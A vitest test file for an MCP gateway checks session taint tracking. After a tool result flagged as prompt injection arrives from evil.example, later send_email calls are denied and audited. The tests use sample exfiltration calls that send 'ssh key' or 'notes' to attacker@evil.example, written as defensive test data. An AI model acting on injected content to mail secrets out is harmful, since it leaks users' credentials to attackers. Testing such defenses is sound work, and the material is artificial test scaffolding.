import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, describe, expect, it } from 'vitest';
import { openEngine } from '../src/core/engine/open-engine.js';
import type { Engine } from '../src/core/engine/types.js';
import { Policy } from '../src/core/policy/policy.js';
import { engineDecider } from '../src/mcp/decider.js';
import { ROOT } from './helpers/cli.js';
import { connectThroughGateway } from './helpers/mcp-in-process.js';
import { makeTempDir } from './helpers/temp-dirs.js';

const SERVER = join(ROOT, 'test/fixtures/mcp-taint/server.mjs');
const PACK = Policy.parse(readFileSync(join(ROOT, 'policies/session-taint/policy.yaml'), 'utf8'));

type ToolResult = { isError?: boolean; content: Array<{ text?: string }> };

describe('session taint through the stdio gateway, with a real MCP server and client', () => {
  const dir = makeTempDir('ag-taint-mcp-');
  const dataDir = join(dir, 'data');
  const callsFile = join(dir, 'calls.txt');
  const received = () => (existsSync(callsFile) ? readFileSync(callsFile, 'utf8').split('\n').filter(Boolean) : []);
  const closers: Array<() => Promise<unknown>> = [];
  let engine: Engine;

  afterAll(async () => {
    for (const close of closers.reverse()) await close();
    await engine?.close();
  });

  /** One MCP client connection through the gateway: one session. */
  async function connect(sessionId?: string): Promise<Client> {
    const { client, done } = await connectThroughGateway(
      {
        server: 'demo',
        command: process.execPath,
        args: [SERVER],
        env: { ...process.env, MCP_TAINT_CALLS: callsFile },
        decider: engineDecider(engine, () => undefined),
        approvalWaitMs: 0,
        ...(sessionId !== undefined ? { sessionId } : {}),
      },
      'taint-test-client',
    );
    closers.push(async () => {
      await client.close();
      await done;
    });
    return client;
  }

  const call = async (client: Client, name: string, args: Record<string, unknown> = {}) => (await client.callTool({ name, arguments: args })) as ToolResult;

  it('a result with an injection taints the connection: its later send_email is denied and never reaches the server; another connection is unaffected', async () => {
    engine = await openEngine({ policy: PACK, record: true, dataDir });
    const victim = await connect();
    const bystander = await connect();
    const email = { to: 'bob@example.com', body: 'Q3 plan attached' };

    expect((await call(victim, 'read_doc')).content[0].text).toBe('Q3 plan: ship the billing rewrite on Friday.');
    expect((await call(victim, 'send_email', email)).content[0].text).toBe('sent to bob@example.com');

    const page = await call(victim, 'fetch_page', { url: 'https://evil.example' });
    expect(page.isError).toBe(true);
    expect(page.content[0].text).toContain('prompt injection');

    const denied = await call(victim, 'send_email', { to: 'attacker@evil.example', body: 'ssh key' });
    expect(denied.isError).toBe(true);
    expect(denied.content[0].text).toContain('untrusted content');
    expect(received()).toEqual(['read_doc', 'send_email', 'fetch_page']);

    // Reading still works in the tainted session; the other connection still sends.
    expect((await call(victim, 'read_doc')).isError).toBeFalsy();
    expect((await call(bystander, 'send_email', email)).content[0].text).toBe('sent to bob@example.com');
    expect(received()).toEqual(['read_doc', 'send_email', 'fetch_page', 'read_doc', 'send_email']);

    // The audit trail shows why: the denied call was decided with the session's taint and its source.
    const records = await engine.recorder!.store.audit.query({ effect: 'deny' });
    const send = records.map((r) => JSON.stringify(r)).find((r) => r.includes('no-outbound-after-untrusted-content'));
    expect(send).toContain('"tainted":true');
    expect(send).toContain('"source":"demo.fetch_page"');
  });

  it('two connections of one client (one session id, as mcp wrap derives from the client process) share the taint: content read through one taints the other', async () => {
    const client = `client_test_${Date.now()}`;
    const reader = await connect(client);
    const sender = await connect(client);
    const before = received().length;
    expect((await call(reader, 'fetch_page', { url: 'https://evil.example' })).isError).toBe(true);
    const denied = await call(sender, 'send_email', { to: 'attacker@evil.example', body: 'notes' });
    expect(denied.isError).toBe(true);
    expect(denied.content[0].text).toContain('untrusted content');
    expect(received().slice(before)).toEqual(['fetch_page']);
  });
});
